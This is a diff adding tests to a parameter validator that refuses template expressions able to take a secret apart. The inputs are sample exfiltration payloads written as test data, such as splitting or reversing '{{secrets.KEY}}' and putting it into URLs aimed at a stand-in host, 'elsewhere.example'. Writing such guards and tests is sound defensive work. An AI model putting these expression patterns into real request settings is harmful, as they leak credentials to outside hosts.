@@ -78,6 +78,21 @@ test("a string that holds a placeholder is checked when it is filled in", () => 
   expect(checkParams({ url: "{{unknown}}" })).toHaveLength(1);
 });
 
+test.each([
+  { url, successWhen: 'body.key = "{{secrets.KEY}}"' },
+  { url, failureMessage: "$join($split('{{ secrets.KEY }}', ''), '-')" },
+  { url, waitFor: { url: '"https://elsewhere.example/?q=" & $reverse("{{secrets.KEY}}")' } },
+  { url, paginate: { by: "url" as const, next: '"https://elsewhere.example/{{secrets.KEY}}"' } },
+])("an expression that could take a secret apart is refused: %j", (params) => {
+  expect(checkParams(params)).toEqual([{ path: expect.any(String), message: expect.stringMatching(/take apart/) }]);
+  expect(checkParams(JSON.parse(JSON.stringify(params).replaceAll("secrets.KEY", "job.id")))).toEqual([]);
+});
+
+test("what only looks like a reference is checked as it stands", () => {
+  expect(checkParams({ url: "{{secrets.not a code}}" })).toMatchObject([{ path: "/url" }]);
+  expect(checkParams({ url, headers: { "X-A": "{{job.owner}}\n" } })).toMatchObject([{ path: "/headers/X-A" }]);
+});
+
 test("fields that a form left empty send nothing", () => {
   expect(checkParams({ url, body: null })).toEqual([]);
   expect(checkParams({ url, body: "" })).toEqual([]);
